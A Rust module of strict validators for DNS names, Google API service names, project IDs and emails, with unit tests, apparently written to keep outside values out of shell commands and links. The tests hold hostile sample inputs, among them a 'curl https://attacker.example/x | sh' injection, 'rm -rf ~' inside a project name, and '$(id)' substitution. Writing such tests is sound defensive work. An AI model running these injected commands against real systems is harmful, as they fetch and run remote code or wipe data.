//! The strict patterns a value from outside (a Google answer, tokeninfo) must match before it is
//! put into a link or a shell command. One place, so that a link, a sentence with a command and
//! the fix script all apply the same rule.

/// A DNS name: two or more dot-separated labels of ASCII letters, digits and inner hyphens.
pub fn is_dns_name(text: &str) -> bool {
    text.len() <= 253
        && text.split('.').count() >= 2
        && text.split('.').all(|label| {
            !label.is_empty()
                && label.len() <= 63
                && !label.starts_with('-')
                && !label.ends_with('-')
                && label.chars().all(|c| c.is_ascii_alphanumeric() || c == '-')
        })
}

/// A Google API service name: `^[a-z0-9-]+(\.[a-z0-9-]+)*\.googleapis\.com$` (lowercase DNS
/// labels), e.g. `compute.googleapis.com`.
pub fn is_api_service(text: &str) -> bool {
    text.strip_suffix(".googleapis.com")
        .is_some_and(|head| !head.is_empty())
        && is_dns_name(text)
        && !text.contains(|c: char| c.is_ascii_uppercase())
}

/// The project of a `consumer` Google names (`projects/123456`, or a bare number or ID), when it
/// is a project number (digits) or a modern project ID (`[a-z][a-z0-9-]{4,28}[a-z0-9]`).
pub fn consumer_project(consumer: &str) -> Option<&str> {
    let bare = consumer.strip_prefix("projects/").unwrap_or(consumer);
    let number = !bare.is_empty() && bare.len() <= 20 && bare.chars().all(|c| c.is_ascii_digit());
    let id = (6..=30).contains(&bare.len())
        && bare.starts_with(|c: char| c.is_ascii_lowercase())
        && !bare.ends_with('-')
        && bare
            .chars()
            .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '-');
    (number || id).then_some(bare)
}

/// A plain email address: a conservative local part (letters, digits, `. _ % + -`, not starting
/// with a dot) and a DNS domain. Nothing a shell reads specially can pass.
pub fn is_plain_email(text: &str) -> bool {
    let Some((local, domain)) = text.split_once('@') else {
        return false;
    };
    !local.is_empty()
        && local.len() <= 64
        && !local.starts_with('.')
        && local
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '%' | '+' | '-'))
        && is_dns_name(domain)
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Characters a shell, a URL or HTML reads specially: none may pass any pattern.
    const HOSTILE: &[&str] = &[
        ";", "|", "&", "$(id)", "`id`", " ", "'", "\"", "\n", "<", ">", "\\", "*", "?", "#", "/",
        ":", "\u{2019}",
    ];

    #[test]
    fn service_names() {
        for ok in [
            "compute.googleapis.com",
            "cloudresourcemanager.googleapis.com",
            "storage-api.googleapis.com",
            "a.b-c.googleapis.com",
        ] {
            assert!(is_api_service(ok), "{ok}");
        }
        for bad in [
            "googleapis.com",
            ".googleapis.com",
            "compute.googleapis.com.evil",
            "Compute.googleapis.com",
            "evil.example.com",
            "compute..googleapis.com",
            "-x.googleapis.com",
            "evil; curl https://attacker.example/x | sh;",
            "evil;.googleapis.com",
            "javascript:alert(1)//.googleapis.com",
        ] {
            assert!(!is_api_service(bad), "{bad}");
        }
        for h in HOSTILE {
            assert!(!is_api_service(&format!("a{h}b.googleapis.com")), "{h:?}");
        }
    }

    #[test]
    fn consumer_projects() {
        assert_eq!(
            consumer_project("projects/606999393380"),
            Some("606999393380")
        );
        assert_eq!(consumer_project("42"), Some("42"));
        assert_eq!(
            consumer_project("projects/my-project-1"),
            Some("my-project-1")
        );
        for bad in [
            "",
            "projects/",
            "projects/1; rm -rf ~",
            "projects/My-Project",
            "projects/abc",
            "projects/my-project-",
            "projects/1-x",
            "organizations/1",
            "projects/example.com:legacy",
            "projects/123456789012345678901",
        ] {
            assert_eq!(consumer_project(bad), None, "{bad}");
        }
        for h in HOSTILE {
            assert_eq!(
                consumer_project(&format!("projects/12{h}34")),
                None,
                "{h:?}"
            );
            assert_eq!(
                consumer_project(&format!("projects/abcdef{h}x")),
                None,
                "{h:?}"
            );
        }
    }

    #[test]
    fn emails() {
        for ok in [
            "alice@example.com",
            "a.b+c_d%e-f@sub.example.co",
            "sa@p.iam.gserviceaccount.com",
        ] {
            assert!(is_plain_email(ok), "{ok}");
        }
        for bad in [
            "",
            "alice",
            "@example.com",
            ".a@example.com",
            "alice@localhost",
            "a@b@example.com",
            "a'b@example.com",
            "x@p$(id).gserviceaccount.com",
        ] {
            assert!(!is_plain_email(bad), "{bad}");
        }
        for h in HOSTILE {
            assert!(!is_plain_email(&format!("a{h}b@example.com")), "{h:?}");
            assert!(!is_plain_email(&format!("ab@exa{h}mple.com")), "{h:?}");
        }
    }
}
